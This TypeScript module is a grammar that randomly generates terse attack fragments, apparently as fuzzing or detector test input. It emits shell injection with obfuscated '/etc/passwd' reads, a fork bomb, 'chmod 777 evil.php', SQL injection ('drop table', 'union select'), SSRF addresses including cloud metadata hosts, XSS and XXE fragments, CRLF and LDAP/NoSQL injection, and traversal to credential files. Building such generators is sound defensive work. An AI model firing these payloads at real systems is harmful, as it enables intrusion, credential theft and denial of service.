// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads hold "${" by nature
/**
 * Terse attacks: one construct with next to nothing around it, as it is tried whether it gets through at all. What the
 * other families say at length is here in its shortest form: conditions and loops of cmd.exe, operators of SQL, one call,
 * one expansion of a shell, one internal host.
 */

import { grammar, lines, words } from "../lib/grammar.ts";
import type { Random } from "../lib/random.ts";
import { spelledAddress } from "./addresses.ts";
import { PHP_FUNCTIONS } from "./php-functions.ts";
import { SHELL } from "./shell.ts";
import { SQL_MANUAL } from "./sqli-functions.ts";

/** Whether the letters of a keyword are written this way or that. */
function anyCase(rng: Random, text: string): string {
  const style = rng.int(0, 5);
  if (style < 3) return text;
  if (style < 5) return text.toUpperCase();
  return text.replace(/[a-z]/g, (c) => (rng.chance(0.5) ? c.toUpperCase() : c));
}

const LOCAL = [
  "localhost",
  "localhost.localdomain",
  "localhost6",
  "ip6-localhost",
  "ip6-loopback",
  "host.docker.internal",
  "gateway.docker.internal",
  "kubernetes.docker.internal",
  "host.containers.internal",
  "host.minikube.internal",
  "kubernetes.default.svc",
  "metadata.google.internal",
  "instance-data",
  "localtest.me",
  "lvh.me",
  "127.0.0.1.nip.io",
  "10.0.0.1.sslip.io",
  "vcap.me",
  "lacolhost.com",
  "yoogle.com.localtest.me",
  "127-0-0-1.sslip.io",
];

const RULES = grammar({
  ...SHELL,
  start: [
    ["«batch»", 14],
    ["«command»", 12],
    ["«expansion»", 9],
    ["«sql»", 16],
    ["«call»", 12],
    ["«server»", 11],
    ["«perl»", 4],
    ["«js»", 6],
    ["«markup»", 6],
    ["«lines»", 5],
    ["«filter»", 4],
    ["«file»", 7],
  ],

  /** `if` and `for` of cmd.exe, as its help shows them. */
  batch: [
    ["«lead»«if»«b»«not»«cond»«b»«do»", 16],
    ["«lead»«if»«b»«not»«cond»«b»«do» «else»«b»«do»", 2],
    ["«lead»«for»«b»«loop»", 12],
    ["«lead»«if»«b»«not»«cond»", 2],
  ],
  lead: ["«»", "«»", "«»", "& ", "&& ", "| ", "|| ", "; ", "(", "@", "«int»&", "\n", "«rnd»|"],
  if: (rng) => anyCase(rng, "if"),
  for: (rng) => anyCase(rng, "for"),
  else: (rng) => anyCase(rng, "else"),
  in: (rng) => anyCase(rng, "in"),
  doword: (rng) => anyCase(rng, "do"),
  not: (rng) =>
    rng.chance(0.3) ? `${anyCase(rng, "not")} ` : rng.chance(0.15) ? `/${anyCase(rng, "i")} ` : "",
  b: (rng) => (rng.chance(0.7) ? " " : " ".repeat(rng.int(2, 14))),
  cond: [
    ["«operand»«b»«compare»«b»«operand»", 12],
    ["(«operand»«b»«compare»«b»«operand»)", 2],
    ["«operand»==«operand»", 6],
    ["(«operand»)==(«operand»)", 1],
    ["«exist»«b»«lolname»", 5],
    ["«errorlevel»«b»«digit»", 4],
    ["«cmdext»«b»«small»", 2],
    ["«defined»«b»«Rnd»", 3],
  ],
  compare: (rng) => anyCase(rng, rng.pick(["equ", "neq", "lss", "leq", "gtr", "geq", "=="])),
  exist: (rng) => anyCase(rng, "exist"),
  errorlevel: (rng) => anyCase(rng, "errorlevel"),
  cmdext: (rng) => anyCase(rng, "cmdextversion"),
  defined: (rng) => anyCase(rng, "defined"),
  operand: lines`
    %«rnd»%
    %«Rnd»%
    %%«letter»
    %«digit»
    %%~«letter»
    %ERRORLEVEL%
    «int»
    «int»
    "«rnd»"
    "%«rnd»%"
    '«rnd»'
    «rnd»
    {%«digit»}
    {}
    (%«digit»)
    [%«digit»]
    [«rnd»]
    !«rnd»!`,
  lolname: [
    "«rnd».«exe|txt|bat|xls|doc|log|dat|cmd|zip»",
    "«rnd».«exe|txt|bat|xls|doc|log|dat|cmd|zip»",
    "«drive»«rnd»",
    "«drive»«winfile»",
    "*.«txt|log|bak»",
    '"«drive»«rnd» «rnd»\\«rnd».txt"',
    "%«temp|userprofile|windir»%\\«rnd».exe",
  ],
  do: [
    ["«echo» «rnd» «rnd»", 4],
    ["«echo» The «noun» was «rnd»", 2],
    ['«echo» "«rnd»"', 2],
    ["«echo» %«rnd»%", 1],
    ["«echo» «operand» «rnd» «operand»", 2],
    ["«cmdword»", 5],
    ["«cmdword» «rnd»", 2],
    ["«goto» «rnd»_«rnd»", 2],
    ["«goto» :«rnd»", 1],
    ["(«cmdword» «rnd»)", 2],
    ["«winlook»", 2],
    ["«rnd»", 3],
    ["«cmdword» «drive»«rnd»", 2],
    ["set «rnd2»=«rnd»", 1],
    ["exit /b «digit»", 1],
  ],
  echo: (rng) => anyCase(rng, "echo"),
  goto: (rng) => anyCase(rng, "goto"),
  cmdword: (rng) =>
    anyCase(
      rng,
      rng.pick(["cmd", "call", "start", "cd", "del", "type", "pause", "dir", "cls", "exit", "rem", "copy"]),
    ),
  loop: lines`
    %«pct»«letter» «in» («set») «doword» «do»
    %«pct»«letter» «in» («set»)«doword» «do»
    /«l|L»«b»%«pct»«letter» «in» («range») «doword» «do»
    /«d|D|r|R»«b»%«pct»«letter» «in» («set») «doword» «do»
    /«r|R» «drive»«b»%«pct»«letter» «in» («set») «doword» «do»
    /«f|F»«b»«fopt»%«pct»«letter» «in» («fset») «doword» «do»
    /«l|L» /«l|d|f» «b»%«pct»«letter» «in» («range») «doword» «do»
    %«pct»~ «in» («set») «doword» «do»
    %«pct»«digit» «in» («set») «doword» «do»
    %«pct»«letter» «in» («set»)
    /«l|f|d|r» %«pct»«letter» «in» («set»`,
  pct: ["«»", "%"],
  range: ["«digit»,«small»,«int»", "start,step,end", "«rnd»,«rnd»,«rnd»", "«int»,-«small»,«digit»"],
  set: [
    "«letter»,«letter»,«letter»",
    "«rnd» «rnd»",
    "*.«ext»",
    "*",
    "«rnd»",
    "«int» «int»",
    "«lolname»",
    '"«rnd»" "«rnd»"',
  ],
  fopt: [
    "«»",
    "«»",
    '"tokens=«small»" ',
    '"delims=" ',
    '"tokens=* delims=«rnd2»" ',
    '"usebackq" ',
    '"eol=; tokens=«small»" ',
  ],
  fset: ["«rnd».txt", "'«winlook»'", "`«rnd»`", '"«rnd»"', "«lolname»", "'«rnd» /«letter»'"],

  /** A command and at most a word or two, quoted or after a separator. */
  command: [
    ["«cut»«admin» «what»", 10],
    ["«cut»«gtfo» «what»", 10],
    ["«cut»«admin»", 4],
    ["«cut2»«gtfo»", 4],
    ["«cut»«wrap» «gtfo»", 6],
    ["«cut»«wrap» «admin»", 3],
    ["«q1»«admin» «what»«q1»", 3],
    ["$«letter» «gtfo» «what»", 1],
    ["«sep1»$«letter» «gtfo» «what»", 2],
    ["«gtfo»$() «what»", 1],
    ["«cut»«chmodline»", 3],
  ],
  cut: ["«»", "«»", "«»", "«»", ";", "; ", "| ", "|", "&&", "'; ", "\n"],
  cut2: [";", ";", "|", "&&", "`", "$("],
  sep1: [";", "|", "||", "&&", "\n"],
  q1: ['"', "'"],
  wrap: words`nohup strace ltrace time timeout nice ionice env exec command busybox sudo doas watch xargs setsid stdbuf unbuffer chroot unshare
    nsenter runuser setarch taskset chrt catchsegv script eatmydata faketime fakeroot proxychains torsocks tsocks parallel flock`,
  admin: words`ansible ansible-playbook ansible-vault ansible-galaxy ansible-inventory ansible-console ansible-pull ansible-doc chef-client chef-solo chef-run
    chef-shell chef-vault chef-apply knife puppet puppet-agent salt salt-call salt-key salt-ssh cfengine cf-agent terraform tofu terragrunt packer vault consul nomad
    boundary waypoint kubectl kubeadm kubelet helm helmfile kustomize minikube k3s k9s crictl ctr nerdctl podman buildah skopeo docker docker-compose oc istioctl
    linkerd cilium flux argocd cscli crowdsec fail2ban-client ufw firewall-cmd iptables ip6tables nft nmcli netplan visudo vipw vigr chage usermod useradd userdel
    groupadd passwd chpasswd systemctl systemd-run journalctl loginctl machinectl hostnamectl timedatectl localectl resolvectl service rc-service update-rc.d chkconfig
    initctl supervisorctl pm2 monit crontab at batch anacron aws gcloud az doctl heroku flyctl s3cmd rclone restic borg duplicity mysqladmin mysqldump pg_dump
    psql redis-cli mongo mongosh mongodump sqlcmd sqlplus influx rabbitmqctl kafka-topics zkCli.sh etcdctl certbot acme.sh openssl gpg ssh-keygen ssh-add
    sestatus setenforce getenforce aa-status auditctl ausearch lastlog lastb tcpdump tshark nmap masscan rustscan zmap hydra medusa john hashcat msfconsole msfvenom
    lsblk blkid fdisk parted mkfs mkswap swapon lvcreate vgs pvs zpool zfs btrfs mdadm smartctl dmidecode lshw lspci lsusb lsmod modprobe insmod rmmod
    apt apt-get aptitude dpkg yum dnf rpm zypper pacman apk emerge snap flatpak brew port pip pip3 pipx conda npm npx yarn pnpm gem bundle composer cargo go`,
  what: lines`
    -«letter» «rnd»
    --«help|version|list|all|check|syntax-check|json|force|verbose»
    --version
    «rnd».«yml|yaml|rb|tf|json|pp|sls|conf|sh»
    «list|show|status|get|view|decrypt|encrypt|edit|init|apply|plan|run|exec|install|start|stop|restart|reload|add|remove|delete|create|inspect|logs|info» «rnd»
    «list|status|version|info|ps|update|upgrade|login|whoami|agent|console»
    «rnd» «list|show|delete|add»
    all -m «shell|ping|command|setup»
    all «rnd».rb
    -i «rnd»
    «unixfile»
    /tmp/«rnd»
    127.0.0.1
    «host»`,
  chmodline: (rng) =>
    anyCase(
      rng,
      `chmod ${rng.pick(["+x", "777", "755", "u+s", "a+x", "0777", "-R 777"])} ${RULES(rng, "dropped")}`,
    ),
  dropped: ["«rnd».«php|sh|pl|py|elf|cgi|bin»", "/tmp/«rnd»", "evil.«php|sh»", "./«rnd»"],

  /** Expansions, substitutions and redirections of a shell. */
  expansion: lines`
    ~«+|-»«digit»
    ~«+|-»
    ~«+|-»/«rnd»
    alias «letter»=«letter»
    alias «rnd2»=«rnd»
    alias «+|-»«letter»«|+» «letter»=«letter»
    unalias «rnd»
    $[]
    $[«int»«+|-|*»«int»]
    $[$RANDOM%«int»]
    $(«»)
    $(())
    $((«letter»))
    $«tick»«rnd»«tick»
    <(«gtfo» «rnd»)
    >(«gtfo» «rnd»)
    <(«gtfo»)
    \${«Rnd»#«»}
    \${PATH#{}/}
    \${«Rnd»##*«/|:»}
    \${«Rnd»%«/*|.*|?»}
    \${«Rnd»%%«:*|/*»}
    \${«rnd»:-«rnd»}
    \${!«rnd»@}
    !-«small»
    !-«small»!-«small»
    !«rnd»:«p|s/«letter»/«letter»/|$»
    ^«rnd»^«rnd»
    /«[e]tc|[e//]tc|e[t]c|et[c]|[e///]tc|?tc|et?|{etc,tmp}»«|/passwd|/p?sswd»
    «letter»[«letter»]«letter» /[«letter»]tc/[«letter»]asswd
    «base3»;c$@at«ifs3»/et$@c/pas$@swd
    c$*a$*t /e$*tc/h$*osts
    w\${«letter»}h\${«letter»}o
    {«gtfo»,«rnd»}
    «gtfo»<<<«rnd»
    «gtfo»>&«small»
    :(){ :|:& };:
    «rnd»(){ «rnd»|«rnd»& };«rnd»
    while :;do «gtfo»;done
    PATH=«/tmp|.|/dev/shm»
    «Letter»=«gtfo»;$«Letter»
    «letter»=«gtfo»;$«letter» «what»`,
  tick: ["'", '"'],
  base3: ["www.«rnd».com", "127.0.0.1", "«rnd»", "«int»"],
  ifs3: ["+", " ", "${IFS}", "\t"],

  /** Operators and keywords of SQL with a value or two. */
  sql: [
    ["«v1»«ws»«op2»«ws»«v1»", 12],
    ["«v2»«op1»«v2»", 9],
    ["«letter»,«v2»«op1»«v2»", 1],
    ["«kw» «v1»«|-|<|>|=|(|)|+|*| -| <»", 6],
    ["«kw» («int».«digit» , «int»)", 2],
    ["«op0»«v1»«op0»«v1»", 2],
    [")«op2w»(", 3],
    ["'«op2w»'", 2],
    [";«stmt» «noun»", 3],
    [";«ws»«stmt»«gapc»«noun»«gapc»«|;|--»", 4],
    [";«stmt»[«rnd2»", 1],
    ["«noun»' «and» «noun» «op2w» «noun»«|;|--»", 4],
    ["«email»' «and» «noun» «op2w» «noun»;", 2],
    ["«jsonb»", 6],
    ["«fnq»«ws»(«args»)", 8],
    ["«and» «fnq»(«args»)", 2],
    ["«fnq»(«rnd»)::«double precision|text|int|jsonb|regclass|bytea»", 1],
    [";\\n.«databases|tables|schema|shell «gtfo»|import «rnd»|read «rnd»|open «rnd»|dump»", 2],
    ["«int»«ws»«union» «all»«ws»«select»", 3],
    ["*/*/«int» «union» «all»", 1],
    ["/*!«int»«select»*/", 1],
    ["«select»«ws»«fnq»«ws»(«int»«ws»*«ws»«int»)", 3],
    ["«v1» «and» «v2»«op1»«v2»", 2],
  ],
  v1: ["«int»", "«int»", "«small»", "«letter»", "'«rnd2»'", '"«letter»"', "«noun»", "null", "true"],
  v2: ["«int»", "«int»", "«small»", "'«rnd2»'", '"«letter»"', "true", "null"],
  ws: ["«»", " ", " ", "+", "/**/", "\t", "  "],
  op0: ["!-", "!!", "!~", "~", "- -", "!+", "-~"],
  op1: ["=", "!=", "<>", "<=>", ">=", "<=", "^", "||", "&&", "|", "&", "<<", ">>", "%", "=="],
  op2: (rng) =>
    anyCase(
      rng,
      rng.pick([
        "is not",
        "is",
        "xor",
        "div",
        "mod",
        "like",
        "rlike",
        "regexp",
        "sounds like",
        "not like",
        "or",
        "and",
        "between",
        "glob",
        "similar to",
        "ilike",
        "collate",
        "<=>",
        "!=",
      ]),
    ),
  op2w: (rng) =>
    anyCase(
      rng,
      rng.pick([
        "like",
        "rlike",
        "regexp",
        "glob",
        "xor",
        "is",
        "or",
        "and",
        "div",
        "match",
        "||",
        "&&",
        "<=>",
        "!=",
      ]),
    ),
  kw: (rng) =>
    anyCase(rng, rng.pick(["or", "xor", "and", "div", "having", "not", "between", "regexp", "rlike", "mod"])),
  and: (rng) => anyCase(rng, rng.pick(["and", "or", "xor", "&&", "||"])),
  union: (rng) => anyCase(rng, "union"),
  all: (rng) => anyCase(rng, rng.pick(["all", "distinct", "all "])),
  select: (rng) => anyCase(rng, "select"),
  stmt: (rng) =>
    anyCase(
      rng,
      rng.pick([
        "drop table",
        "truncate",
        "truncate table",
        "delete from",
        "alter table",
        "shutdown",
        "insert into",
        "update",
        "exec",
        "declare",
        "create table",
        "rename table",
        "grant all",
        "vacuum",
        "load data",
        "handler",
        "do",
        "call",
      ]),
    ),
  gapc: [" ", "/**/", "/*«rnd»*/", "+", "\n", "/*/«rnd»/*/ "],
  jsonb: lines`
    '{"«letter»":«small»}'::jsonb «jop» '«letter»'
    '["«letter»", "«letter»"]'::jsonb «-|#-|@>|<@|?|?&» «small»
    '["«letter»", {"«letter»":«small»}]'::jsonb «#-|#>|#>>|@?|@@» '{«small»,«letter»}'
    '«noun»'::«jsonb|json|text|regclass|int|name|bytea»
    json_«extract|valid|type|length|array|object|keys|value|query»('{"«letter»":«small»}'«|,'$.«letter»'»)
    '{"«letter»":«small»}'«->|->>|@>»'$.«letter»'
    '"«letter»"'::jsonb ? '«letter»'`,
  jop: ["?", "->", "->>", "-", "@>", "#>", "||", "?|"],
  fnq: (rng) => anyCase(rng, rng.pick(SQL_MANUAL)),
  args: ["«»", "«int»", "«rnd»", "'«rnd»'", "«int»,«int»", "'«rnd»','«rnd»'", "«noun»", "null", "*"],

  /** One call of a function that PHP has. */
  call: [
    ["«phpname»(«args»)", 12],
    ["«phpname»«gap»(«args»)", 5],
    ["«phpname»«gap»(", 2],
    ["«phpname»('«rnd»', «int»)", 2],
    ["«phpname»(«args»);", 3],
    ["<?«php»«ws»«phpname»(«args»);«|?>»", 2],
    ["$«letter»(«args»)", 0.5],
    ["${«ws5»«Const»«ws5»}", 1.5],
    ["{${«phpname»(«args»)}}", 1],
  ],
  phpname: (rng) => {
    const name = rng.pick(PHP_FUNCTIONS);
    return rng.chance(0.6) ? name : name.replace(/[a-z]/g, (c) => (rng.chance(0.15) ? c.toUpperCase() : c));
  },
  gap: [" ", "  ", "\t", "/**/", "/*«rnd»*/", "//\n", "\n"],
  php: ["php", "=", "PHP", "«»"],
  ws5: (rng) => " ".repeat(rng.int(1, 6)),
  Const: ["«Rnd»", "CONSTANT", "PHP_«OS|VERSION|EOL|INT_MAX»", "E_ALL", "_GET", "«letter»"],

  /** An address that only the server can mean. */
  server: [
    ["«local»/«|«rnd»»", 10],
    ["«local»:«port»«|/|/«rnd»»", 4],
    ["«scheme3»://«local»«|/|/«rnd»»", 5],
    ["«scheme3»://«odd2»«|/|/«rnd»»", 12],
    ["«scheme3»:«odd2»", 5],
    ["«scheme3»:/«odd2»", 1],
    ["«odd2»", 2],
    ["«wrapper»://«wrapped»", 7],
    ["http«|s»://«rnd».«tld»«%2f|%5c|\\|#|%23|;|%09|%00»@«evilword»«rnd».com/", 4],
    ["http«|s»://«rnd».«tld»@«evilword».«tld»/", 2],
    ["/http«|s»://«host»/«|?|#»", 2],
    ["http«|s»://«host»/«rnd».txt?", 3],
  ],
  local: (rng) => {
    const name = rng.pick(LOCAL);
    return rng.chance(0.12) ? name.toUpperCase() : rng.chance(0.1) ? anyCase(rng, name) : name;
  },
  odd2: (rng) => spelledAddress(rng),
  scheme3: words`http http http https https ftp ftps sftp tftp gopher dict ldap ldaps file irc ircs rtmp rtsp sip sips smb nfs ws wss telnet ssh svn git jar netdoc imap pop3 smtp mms
    afp rsync vnc rdp redis mongodb amqp mqtt jdbc view-source`,
  wrapper: words`zip phar zlib compress.zlib compress.bzip2 bzip2 glob expect ogg ssh2 ssh2.exec ssh2.sftp rar data php file file php jar netdoc`,
  wrapped: [
    "«rnd».«zip|rar|phar|tar|jar»",
    "«rnd».«zip|phar|jpg»#«rnd»",
    "filter/resource=«rnd»",
    "input",
    "«rnd».«rnd»",
    "/«rnd»",
    "/etc/«rnd»",
    "*",
    "text/plain,«rnd»",
    "memory",
    "temp",
    "«host»",
    "archive.«zip|rar»",
  ],

  /** Interpolation of Perl, blanks and all. */
  perl: lines`
    @{«ws5»[«ws5»«perlfn»«ws5»'«rnd»'«ws5»]«ws5»}
    @{«ws5»[«ws5»«perlfn»«ws5»"«rnd»"«ws5»]«ws5»}
    @{[«perlfn»(«perlarg»)]}
    @{[«ws5»«perlfn»«ws5»«perlarg»«ws5»]}
    \${«ws5»«bs»«ws5»«perlfn»(«perlarg»)«ws5»}
    \${«bs»«perlfn»(«perlarg»)}
    @{«perlfn»(«perlarg»)}
    @{[«perlfn»($<)]}`,
  perlfn: words`system exec print printf eval qx readpipe open glob uc lc ucfirst lcfirst length reverse join split sprintf chr ord hex oct sort map grep keys values unlink rename mkdir rmdir chmod
    getpwuid getpwnam getgrgid getlogin getppid time localtime gmtime sleep fork kill wait require do die warn ref defined scalar wantarray caller rand srand int abs sqrt index substr`,
  perlarg: ["'«rnd»'", '"«rnd»"', "$<", "$>", "$0", "@ARGV", "%ENV", "«int»", "$«letter»", "q(«rnd»)"],

  /** JavaScript on either side. */
  js: lines`
    while(«!NaN|!false|1|true|!0|!null|!undefined|!""|1==1|[]»)«|;|{}»
    for(;;)«;|{}»
    do{}while(«1|true|!0»)
    «atobbed»
    require[«|'|"»«rnd»
    require[req.«query|body|params».«letter»
    require(req.«query|body».«letter»
    __js_function
    _$$ND_FUNC$$_
    __«proto|defineGetter|lookupSetter|js_function»__
    «confirm|alert|prompt|eval|print|atob|fetch»(«|1|«int»|document.domain»)
    «confirm|alert|prompt»«bt2»«int»«bt2»
    [«».]constructor
    function«ws»(«|«letter»»)«ws»{
    («letter»=>«letter»)(«int»)
    new Function(«|"«rnd»"»)
    process.«env|exit|mainModule|argv»
    globalThis[«tick»«rnd»«tick»]
    self[«tick»«rnd»«tick»+«tick»«rnd»«tick»]
    top[«tick»al«tick»+«tick»ert«tick»](«int»)
    window[«tick»«rnd»«tick»]
    this.«constants|constructor|process|mainModule|«noun»»
    «int»||this.«noun»
    import(«tick»«rnd»«tick»)
    «rnd».constructor.constructor
    document[«tick»«cookie|domain|URL|body»«tick»]
    setTimeout(«tick»«rnd»«tick»)`,
  bt2: ["`"],
  atobbed: (rng) =>
    Buffer.from(
      rng.pick([
        "while(true);\n",
        "while(1){}\n",
        "process.exit()\n",
        "require('fs')\n",
        "eval(name)\n",
        "for(;;);\n",
        "system('id');\n",
        "<?php phpinfo();",
        "alert(1)",
        "__import__('os')",
      ]),
    ).toString("base64"),

  /** Markup torn apart, or a single attribute. */
  markup: [
    ["«spaced»", 8],
    ["«rnd»«spaced»", 4],
    ["$«spaced»", 1],
    ["«ws»on«event»«ws»=«ws»", 4],
    ["«ws»on«event»«ws»=«ws»«rnd»", 2],
    ["<?import «implementation|namespace|«rnd»»«ws»=", 2],
    ["<?«xml-stylesheet|import» «rnd»=", 0.5],
    ["!ENTITY «rnd» SYSTEM", 1],
    ["<!ENTITY % «rnd» SYSTEM", 1],
    ["«rnd»!ENTITY % «rnd» SYSTEM", 1],
    ["<!DOCTYPE «rnd» [", 1],
    ["<!«ELEMENT|ATTLIST|NOTATION» «rnd» ANY", 0.5],
    ["+ADw-«rnd»+AD4-", 1],
    ["<«letter»«:|»«rnd»«ws»on«event»=", 1],
    ["<«x|a|b|image|math|svg|isindex|bgsound|keygen»«/|»«ws»", 1],
  ],
  spaced: (rng) => {
    const tag = rng.pick([
      "form",
      "script",
      "iframe",
      "object",
      "embed",
      "style",
      "meta",
      "link",
      "img",
      "applet",
      "frame",
      "base",
      "svg",
      "body",
      "isindex",
      "marquee",
    ]);
    const gap = rng.pick([" ", "\t", "\n", "/", "\u0000", "  "]);
    return `<${rng.chance(0.3) ? "/" : ""}${[...anyCase(rng, tag)].join(gap)}`;
  },
  event: words`load error click mouseover focus blur submit change input keydown keyup begin end toggle start finish scroll wheel drag drop copy cut paste resize unload hashchange pageshow animationend
    transitionend pointerdown touchstart message popstate storage beforeprint afterscriptexecute auxclick canplay cuechange`,

  /** A line break and what begins behind it. */
  lines: [
    ["«rnd»«br»«rnd»=«rnd»", 6],
    ["«br»«rnd»", 3],
    ["«rnd»«br»«rnd»«br»«rnd»", 2],
    ["«noun»=«rnd»&«br»«rnd»", 2],
    ["«rnd»«br»«Rnd»: «rnd»", 3],
    ["«br»«Rnd»-«Rnd»: «rnd»", 2],
    ["«rnd»«br»«br»«rnd»", 2],
  ],
  br: ["%0d", "%0D", "%0a%0d", "%0d%0a", "%0D%0A", "\r", "\n\r", "\r\n", "%0d%0d"],

  /** Half a filter of LDAP, XPath or a document store. */
  filter: lines`
    «noun»)&(cn=«noun»
    «noun»)(&(«objectClass|uid|cn|mail»=«*|«noun»»
    *)(«uid|cn|mail|sn|objectClass»=*
    *)(«pipe»(«uid|cn»=*
    «noun»)(«pipe»(«noun»=*)
    (&(«noun»=«noun»)(«noun»=*))
    «noun»*)(«uid|cn»=«noun»*))
    {"$«ne|gt|lt|gte|in|nin|regex|where|exists|not|or|and»":«""|«int»|null|"«noun»"»}
    {"«noun»":{"$«ne|gt|regex|exists»":«""|1|null»}}
    [$«ne|gt|lt|regex|in|nin|exists|eq|where»]=«int»
    [$«ne|gt|regex»]=
    $«where|ne|regex|gt»:«int»
    «int»«pipe»«pipe»this.«noun»
    «noun»'«pipe»«pipe»'«letter»'=='«letter»
    ' or count(/*)=«int» or '
    '] | //«noun» | ['`,

  /** What is not meant to be read, at the end of a path. */
  file: lines`
    ../.«history|bash_history|profile|env|ssh|netrc|npmrc|git»
    ../.«rnd»
    «cat|head|tail|more|less|nl|tac» /etc/«subuid-|subgid|gshadow-|passwd-|shadow-|group-|crypttab|mtab|shells|motd|fstab|issue.net|login.defs»
    /etc/«subuid|subgid|gshadow|passwd-|crypttab|shells|login.defs|pam.conf|environment|inittab|securetty|ld.so.conf|krb5.keytab|sudo.conf»
    /sys/«class|kernel|devices|module|fs|block»«|/«rnd»»
    /proc/«self|«small»|«int»»/«environ|cmdline|maps|status|fd|root|cwd|exe|mem|stat»
    «backup|dump|db|database|site|www|data|«rnd»».«sql|bak|old»«.zip|.gz|.tgz|.tar.gz|.7z|.bz2|»
    «rnd».«php|asp|jsp|config|inc»«~|.bak|.old|.swp|.save|.orig|.1|::$DATA|%00»
    .«rnd»/«config|credentials|settings|mcp|auth|token|secrets|«rnd»».«json|yml|yaml|toml|env|ini»
    .«rnd»/«rnd».«json|yml|yaml|toml|env|ini»
    .«rnd».«json|yml|yaml|toml|env»
    .«docker|kube|aws|azure|gcloud|config|cursor|vscode|idea|claude|fleet|fabric|terraform|circleci|github|local|m2|gradle|cargo|npm|yarn»/«rnd».«json|yml|yaml|toml|env|xml»
    /dev/«tcp|udp»/«rnd»
    c:«bs»«rnd»«bs»«rnd».ini
    «bs»«bs»«ip»«bs»c$
    «rnd»/../../«rnd»`,
});

/** One terse attack. */
export const terse = (rng: Random): string => RULES(rng);

/** One that a header may hold as it is: a command alone. */
export const terseCommand = (rng: Random): string => RULES(rng, rng.chance(0.85) ? "command" : "expansion");
